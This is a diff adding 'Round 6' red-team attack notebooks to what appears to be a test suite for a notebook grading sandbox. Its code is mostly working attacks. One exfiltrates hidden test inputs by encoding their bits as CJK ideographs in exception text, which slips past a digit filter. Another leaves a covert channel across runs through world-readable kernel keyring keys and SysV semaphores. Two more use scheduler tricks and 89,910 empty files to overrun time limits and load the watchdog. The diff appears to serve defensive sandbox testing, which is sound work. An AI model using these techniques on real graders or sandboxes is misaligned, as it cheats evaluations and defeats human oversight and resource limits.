@@ -612,6 +612,142 @@ def copy_through_a_module_05():
     return nb
 
 
+# Round 6. A hang whose own tasks take turns on one CPU: a burner pinned to CPU 0 runs the first
+# 34 % of every 30 ms, and three waiters pinned to the same CPU at SCHED_IDLE wake 0.3 ms into each
+# burst and wait (an idle-policy task never preempts a normal one on waking; EEVDF runs it when the
+# burner's slice ends, so it queues again at once until the burst is over), then sleep to the next
+# burst. Each waiter's run delay grows by a third of the wall
+# clock, three of them sum to twice the longest, so `WaitClock` credits 2x the longest, and the
+# only CPU spent is the burner's third of a core: the wall clock runs until the credit and the CPU
+# time both give out, at 3x the item's limit (docs/limits.md says at most 2x).
+TURNS = r"""
+import os, signal, time
+signal.signal(signal.SIGALRM, signal.SIG_IGN)
+PERIOD, BURN, LATE = 0.030, 0.0102, 0.0003
+def _child(waiter):
+    if os.fork():
+        return
+    try:
+        os.sched_setaffinity(0, {{0}})
+        if waiter:
+            os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
+        while True:
+            phase = time.time() % PERIOD
+            if waiter and LATE <= phase < BURN - 0.0005:
+                time.sleep(0.0001)  # back in the queue at once: the burner's next slice
+            elif waiter:
+                time.sleep((PERIOD - phase + LATE) % PERIOD or PERIOD)  # wake inside the next burst
+            elif phase < BURN:
+                end = time.time() - phase + BURN
+                while time.time() < end:
+                    pass
+            else:
+                time.sleep(PERIOD - phase)
+    finally:
+        os._exit(0)
+_child(False)
+for _ in range({waiters}):
+    _child(True)
+time.sleep(3600)
+"""
+
+
+@attack
+def takes_turns_04():
+    """04 solution with one first cell that hangs while its own tasks take turns on one CPU."""
+    return with_cells(load("04_optimizers"), first=[TURNS.format(waiters=3)])
+
+
+# Round 6. Hidden inputs spelled past the filter, at full precision, in the always-visible part of
+# the feedback: eight first cells each read the job's inputs file and raise, the class name (100
+# characters kept) and the message (200 shown) spelling hidden inputs' float64 bits in CJK
+# ideographs, 14 bits each (5 a value): no decimal digit for the filter to match. The feedback
+# names up to 8 failed cells; a failed cell costs nothing, the rest of the notebook runs.
+SPELL = r"""
+import glob, os
+import numpy as _np
+_path = next(p for p in ["/job/in/inputs.npz", "../in/inputs.npz", *glob.glob("/**/in/inputs.npz")] if os.path.exists(p))
+with _np.load(_path) as _d:
+    _vals = [float(x) for k in sorted(k for k in _d.files if ".h" in k) if _d[k].dtype.kind == "f" for x in _np.ravel(_d[k])]
+def _spell(vals):
+    out = []
+    for v in vals:
+        n = int(_np.float64(v).view(_np.uint64))
+        out += [chr(0x4E00 + ((n >> (14 * i)) & 0x3FFF)) for i in range(5)]
+    return "".join(out)
+_cell = {cell}
+_first = _cell * 60
+raise type(_spell(_vals[_first:_first + 20]), (Exception,), {{}})(_spell(_vals[_first + 20:_first + 60]))
+"""
+
+
+@attack
+def spells_hidden_inputs_04():
+    """04 solution with eight first cells raising hidden inputs spelled in CJK ideographs."""
+    return with_cells(load("04_optimizers"), first=[SPELL.format(cell=i) for i in range(8)])
+
+
+# Round 6. A sandbox's uid has a kernel keyring of its own (`@u`, keyctl), which outlives every
+# process of the uid (kept per uid in the user namespace: no user namespace here, so the host's)
+# and is not on the list of what a run leaves (`shared.py`). A key with "other" rights is listed in
+# /proc/keys for every uid and readable by any of them. SysV semaphore sets are not removed either
+# (shared.remove: segments only) where there is no IPC namespace.
+KEY_LEAVE = r"""
+import ctypes, os, time
+_libc = ctypes.CDLL(None, use_errno=True)
+_data = f"left by mallory, uid {os.getuid()}, at {time.time():.0f}".encode()
+_key = _libc.syscall(248, b"user", b"redteam6-drop", _data, len(_data), -4)  # add_key to @u
+_libc.syscall(250, 5, _key, 0x3F3F3F3F)  # KEYCTL_SETPERM: every right to everyone
+_libc.semget(0x52454436, 1, 0o1666)  # and a SysV semaphore set (outlives the run without an IPC namespace)
+"""
+KEY_FIND = r"""
+import ctypes
+_libc = ctypes.CDLL(None, use_errno=True)
+_found = []
+for _line in open("/proc/keys"):
+    _f = _line.split()
+    if "redteam6" in _line:
+        _buf = ctypes.create_string_buffer(200)
+        _n = _libc.syscall(250, 11, int(_f[0], 16), _buf, 200)  # KEYCTL_READ
+        _found.append(f"{_f[5]}:{_f[8]} {_buf.raw[:max(_n, 0)].decode()!r}")
+_sems = [l.split()[:4] for l in open("/proc/sysvipc/sem") if l.split()[0] == str(0x52454436)]
+raise RuntimeError(f"keys seen: {_found}; semaphore sets seen (key semid perms nsems): {_sems}")
+"""
+
+
+@attack
+def leaves_a_key_05():
+    """05 solution plus a cell leaving a world-readable key in its uid's user keyring."""
+    return with_cells(load("05_regularisation"), first=[KEY_LEAVE])
+
+
+@attack
+def finds_keys_05():
+    """05 solution plus a cell listing every key an earlier run left (its error says what it read)."""
+    return with_cells(load("05_regularisation"), first=[KEY_FIND])
+
+
+# Round 6. The watchdog walks the job's writable folders every 0.5 s for the disk quota, up to
+# 100,000 entries, in the grader's process: outside the sandbox's CPU share and CPU time. Empty
+# files cost no disk, so 89,910 of them (3 CPU-s once; with the job's own files, under the 100,000
+# a walk counts as over the quota) are walked again and again for as long as the hang lasts.
+MANY_FILES = r"""
+import os, signal, time
+signal.signal(signal.SIGALRM, signal.SIG_IGN)
+for d in range(90):
+    os.mkdir(f"walk{d}")
+    for i in range(999):
+        open(f"walk{d}/{i}", "w").close()
+time.sleep(3600)
+"""
+
+
+@attack
+def walks_the_watchdog_04():
+    """04 solution with one first cell that leaves 89,910 empty files in its folder and hangs."""
+    return with_cells(load("04_optimizers"), first=[MANY_FILES])
+
+
 if __name__ == "__main__":
     out = Path(sys.argv[1])
     out.mkdir(parents=True, exist_ok=True)
